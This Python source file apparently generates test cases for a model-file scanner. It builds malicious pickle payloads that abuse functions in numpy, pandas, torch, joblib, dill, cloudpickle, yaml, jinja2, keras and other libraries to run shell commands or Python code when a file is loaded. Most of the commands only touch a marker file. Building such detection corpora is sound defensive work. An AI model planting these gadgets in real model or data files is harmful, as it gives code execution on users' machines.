"""What runs code by libraries that are there wherever models are loaded."""

import marshal

from families import COMMAND, MARKER, PYTHON, URL
from families.node import Build, Call, Global, New, files
from families.obscure import SYSTEM, method, plain
from families.stdlib import SHELL, code

NAME = "library-gadgets"
ABOUT = "gadgets in libraries"
PICKLED = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."
EXPRESSION = PYTHON


def cloudpickle_function():
    """A function as cloudpickle writes one, by the code object's parts."""
    made = marshal.loads(code("import os\nos.system(" + repr(COMMAND) + ")"))
    parts = Call(Global("types", "CodeType"), made.co_argcount, made.co_posonlyargcount, made.co_kwonlyargcount, made.co_nlocals,
                 made.co_stacksize, made.co_flags, made.co_code, made.co_consts, made.co_names, made.co_varnames, made.co_filename,
                 made.co_name, made.co_qualname, made.co_firstlineno, made.co_linetable, made.co_exceptiontable, made.co_freevars,
                 made.co_cellvars)
    return Call(Call(Global("cloudpickle.cloudpickle", "_make_function"), parts, {"__builtins__": None}, None, None, None))


def numpy_cases():
    return {
        "numpy-runstring": Call(Global("numpy.testing._private.utils", "runstring"), PYTHON, {}),
        "numpy-measure": Call(Global("numpy.testing", "measure"), PYTHON),
        "numpy-getlincoef": Call(Global("numpy.f2py.crackfortran", "getlincoef"), EXPRESSION, {}),
        "numpy-eval-scalar": Call(Global("numpy.f2py.crackfortran", "_eval_scalar"), EXPRESSION, {}),
        "numpy-eval-length": Call(Global("numpy.f2py.crackfortran", "_eval_length"), EXPRESSION, {}),
        "numpy-param-eval": Call(Global("numpy.f2py.crackfortran", "param_eval"), EXPRESSION, {}, {}),
        "numpy-myeval": Call(Global("numpy.f2py.crackfortran", "myeval"), EXPRESSION),
        "numpy-exec-command": (Call(Global("numpy.distutils.exec_command", "exec_command"), COMMAND), None),
        "numpy-load-library": Call(Global("numpy.ctypeslib", "load_library"), MARKER, "/tmp"),
        "numpy-fromfunction": Call(Call(Global("numpy", "frompyfunc"), SYSTEM, 1, 1), COMMAND),
        "numpy-vectorize": Call(Call(Global("numpy", "vectorize"), SYSTEM), COMMAND),
        "numpy-load": Call(Global("numpy", "load"), "/tmp/" + MARKER + ".npy", None, True),
        "numpy-f2py-main": Call(Global("numpy.f2py.f2py2e", "run_main"), ["-m", MARKER, "/tmp/" + MARKER + ".f"]),
    }


def frame_cases():
    frame = Call(Global("pandas", "DataFrame"), {"a": [1]})
    return {
        "pandas-read-pickle": Call(Global("pandas", "read_pickle"), "/tmp/" + MARKER + ".pkl"),
        "pandas-eval": Call(Global("pandas", "eval"), "pd.io.common.os.system('touch sealyard-marker')", "pandas", "python", {"pd": Call(Global("importlib", "import_module"), "pandas")}),
        "pandas-query": method("pandas", "DataFrame.query", frame, "index.to_csv('sealyard-marker')"),
        "pandas-pipe": Call(Global("pandas.core.common", "pipe"), COMMAND, SYSTEM),
        "pandas-series-map": method("pandas", "Series.map", Call(Global("pandas", "Series"), [COMMAND]), SYSTEM),
        "pandas-read-csv": Call(Global("pandas", "read_csv"), URL),
        "pandas-to-csv": method("pandas", "DataFrame.to_csv", frame, MARKER),
        "scipy-argparser": Build(New(Global("scipy.stats._continuous_distns", "norm_gen")), {"_parse_arg_template": PYTHON}),
        "scipy-loadmat": Call(Global("scipy.io", "savemat"), MARKER, {"a": 1}),
        "scipy-map-wrapper": Call(Global("builtins", "list"), Call(Global("scipy._lib._util", "MapWrapper.__call__"), Call(Global("scipy._lib._util", "MapWrapper")), SYSTEM, [COMMAND])),
        "sklearn-fetch-file": Call(Global("sklearn.datasets", "fetch_file"), URL + "x", MARKER),
        "sklearn-load-files": Call(Global("sklearn.datasets", "load_svmlight_file"), "/tmp/" + MARKER),
        "joblib-load": Call(Global("joblib", "load"), "/tmp/" + MARKER + ".joblib"),
        "joblib-dump": Call(Global("joblib", "dump"), "x", MARKER),
        "joblib-batched": method("joblib.parallel", "BatchedCalls.__call__", Build(New(Global("joblib.parallel", "BatchedCalls")), {"items": [(SYSTEM, (COMMAND,), {})], "_size": 1, "_backend": Call(Global("joblib._parallel_backends", "SequentialBackend")), "_n_jobs": 1, "_reducer_callback": None, "_pickle_cache": {}})),
        "joblib-memory": Call(Global("joblib.memory", "Memory"), MARKER),
        "joblib-loky": Call(Global("joblib.externals.loky.backend.fork_exec", "fork_exec"), ["/bin/sh", *SHELL[1:]], [], {"PATH": "/usr/bin:/bin", "SEALYARD_MARKER": MARKER}),
        "joblib-cloudpickle": (Call(Global("joblib.externals.cloudpickle", "loads"), PICKLED), None),
    }


def torch_cases():
    codecache = Global("torch._inductor.codecache", "compile_file")
    return {
        "torch-load": Call(Global("torch", "load"), "/tmp/" + MARKER + ".pt"),
        "torch-legacy-load": Call(Global("torch.serialization", "_legacy_load"), Call(Global("_io", "BytesIO"), PICKLED), None, Call(Global("importlib", "import_module"), "pickle")),
        "torch-load-from-bytes": Call(Global("torch.storage", "_load_from_bytes"), PICKLED),
        "torch-hub-load": Call(Global("torch.hub", "_load_local"), "/tmp/" + MARKER, "model"),
        "torch-hub-download": Call(Global("torch.hub", "download_url_to_file"), URL, MARKER),
        "torch-inductor-compile": (Call(codecache, "", "", SHELL), None),
        "torch-pycodecache": Call(Global("torch._inductor.codecache", "PyCodeCache.load"), PYTHON),
        "torch-load-config": method("torch.utils._config_module", "ConfigModule.load_config", None, PICKLED),
        "torch-guard-builder": (method("torch._dynamo.guards", "GuardBuilder.get", plain(scope={}), PYTHON), None),
        "torch-fx-exec": Call(Global("torch.fx.graph_module", "_exec_with_source"), PYTHON, {}),
        "torch-fx-forward": Call(Global("torch.fx.graph_module", "_forward_from_src"), PYTHON, {}),
        "torch-fx-reduce": Call(Global("torch.fx.graph_module", "reduce_graph_module"), {"_code": "def forward(self): pass"}, PYTHON + "\n"),
        "torch-shape-env": method("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", None, PYTHON, []),
        "torch-exec-wrapper": Call(Global("torch.jit.unsupported_tensor_ops", "execWrapper"), PYTHON, {}, {}),
        "torch-bottleneck": (Call(Global("torch.utils.bottleneck.__main__", "run_cprofile"), PYTHON, {}), None),
        "torch-bottleneck-autograd": (Call(Global("torch.utils.bottleneck.__main__", "run_autograd_prof"), PYTHON, {}), None),
        "torch-collect-env": Call(Global("torch.utils.collect_env", "run"), COMMAND),
        "torch-decoder": Call(Global("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", PICKLED),
        "torch-package": (Call(Global("torch.package", "PackageImporter"), "/tmp/" + MARKER + ".zip"), None),
        "torch-load-library": Call(Global("torch", "ops.load_library"), "/tmp/" + MARKER + ".so"),
        "torch-load-inline": Call(Global("torch.utils.cpp_extension", "load_inline"), MARKER, "int x;"),
        "torch-multiprocessing": Call(Global("torch.multiprocessing.spawn", "_wrap"), Global("builtins", "exec"), PYTHON, (), None),
        "torch-run-compile": Call(Global("torch._inductor.cpp_builder", "run_compile_cmd"), "touch sealyard-marker", "."),
        "torch-reload-module": Call(Global("torch._inductor.runtime.compile_tasks", "_reload_python_module"), MARKER, "/tmp/" + MARKER + ".py"),
        "torch-jit-load": (Call(Global("torch.jit", "load"), "/tmp/" + MARKER + ".pt"), None),
    }


def other_cases():
    lambda_layer = {"class_name": "Lambda", "config": {"name": "x", "function": {"class_name": "__lambda__", "config": {"code": "4wA=", "defaults": None, "closure": None}}}}
    return {
        "yaml-unsafe": Call(Global("yaml", "unsafe_load"), f"!!python/object/apply:os.system ['{COMMAND}']"),
        "dill-loads": Call(Global("dill", "loads"), PICKLED),
        "dill-import": Call(Call(Global("builtins", "getattr"), Call(Global("dill._dill", "_import_module"), "os"), "system"), COMMAND),
        "dill-create-function": Call(Call(Global("dill._dill", "_create_function"), Call(Global("marshal", "loads"), code()), {})),
        "cloudpickle-function": cloudpickle_function(),
        "cloudpickle-subimport": Call(Call(Global("builtins", "getattr"), Call(Global("cloudpickle.cloudpickle", "subimport"), "os"), "system"), COMMAND),
        "sympy-sympify": Call(Global("sympy", "sympify"), PYTHON),
        "sympy-parse": Call(Global("sympy.parsing.sympy_parser", "eval_expr"), PYTHON, {}, {}),
        "psutil-popen": Call(Global("psutil", "Popen"), SHELL),
        "pexpect-run": Call(Global("pexpect", "run"), "touch " + MARKER),
        "pip-main": Call(Global("pip", "main"), ["--log", MARKER, "list"]),
        "pip-internal": Call(Global("pip._internal.cli.main", "main"), ["--log", MARKER, "list"]),
        "setuptools-spawn": Call(Global("setuptools._distutils.spawn", "spawn"), SHELL),
        "pygments-formatter": Call(Global("pygments.formatters", "load_formatter_from_file"), "/tmp/" + MARKER + ".py"),
        "jinja2-render": method("jinja2", "Template.render", Call(Global("jinja2", "Template"), "{{ cycler.__init__.__globals__.os.system('touch sealyard-marker') }}")),
        "mako-render": method("mako.template", "Template.render", Call(Global("mako.template", "Template"), "<% " + PYTHON + " %>")),
        "ipython-system": Call(Global("IPython.utils.process", "system"), COMMAND),
        "ipython-run": method("IPython.core.interactiveshell", "InteractiveShell.run_cell", Call(Global("IPython.core.interactiveshell", "InteractiveShell")), PYTHON),
        "matplotlib-subprocess": Call(Global("matplotlib.cbook", "_check_and_log_subprocess"), SHELL, Call(Global("logging", "getLogger"))),
        "nltk-load": (Call(Global("nltk.data", "load"), "file:///tmp/" + MARKER + ".pickle"), None),
        "nltk-download": (Call(Global("nltk", "download"), "x", "/tmp", True, False, True), None),
        "networkx-gpickle": (Call(Global("networkx", "read_gpickle"), "/tmp/" + MARKER), None),
        "keras-get-file": Call(Global("keras.utils", "get_file"), "x", URL + MARKER),
        "keras-func-load": Call(Call(Global("keras.src.utils.python_utils", "func_load"), __import__("base64").b64encode(code()).decode())),
        "keras-deserialize": (Call(Global("keras.saving", "deserialize_keras_object"), lambda_layer), None),
        "tensorflow-write-file": (Call(Global("tensorflow.python.ops.gen_io_ops", "write_file"), MARKER, "x"), None),
        "tensorflow-load-model": (Call(Global("tensorflow.python.keras.saving.save", "load_model"), "/tmp/" + MARKER), None),
        "mlflow-exec": (Call(Global("mlflow.utils.process", "_exec_cmd"), SHELL), None),
        "mlflow-load-model": (Call(Global("mlflow.pyfunc", "load_model"), "/tmp/" + MARKER), None),
        "transformers-dynamic": (Call(Global("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "model.Model", "/tmp/" + MARKER), None),
        "werkzeug-import": (Call(Call(Global("werkzeug.utils", "import_string"), "os:system"), COMMAND), None),
        "django-import": (Call(Call(Global("django.utils.module_loading", "import_string"), "os.system"), COMMAND), None),
        "xgboost-load": (method("xgboost.core", "Booster.load_model", None, "/tmp/" + MARKER), None),
        "lightgbm-save": (method("lightgbm.basic", "Booster.save_model", None, "/tmp/" + MARKER), None),
        "ray-run": (Call(Global("ray.cloudpickle", "loads"), PICKLED), None),
        "fsspec-touch": method("fsspec.implementations.local", "LocalFileSystem.touch", Call(Global("fsspec.implementations.local", "LocalFileSystem")), MARKER),
        "requests-get": Call(Global("requests", "get"), URL),
        "pyarrow-file": Call(Global("pyarrow.lib", "OSFile"), MARKER, "wb"),
        "gensim-unpickle": (Call(Global("gensim.utils", "unpickle"), "/tmp/" + MARKER), None),
        "six-exec": (Call(Global("six", "exec_"), PYTHON), None),
        "numexpr": (Call(Global("numexpr", "evaluate"), PYTHON), None),
    }


def cases():
    return files({**numpy_cases(), **frame_cases(), **torch_cases(), **other_cases()}, 2)
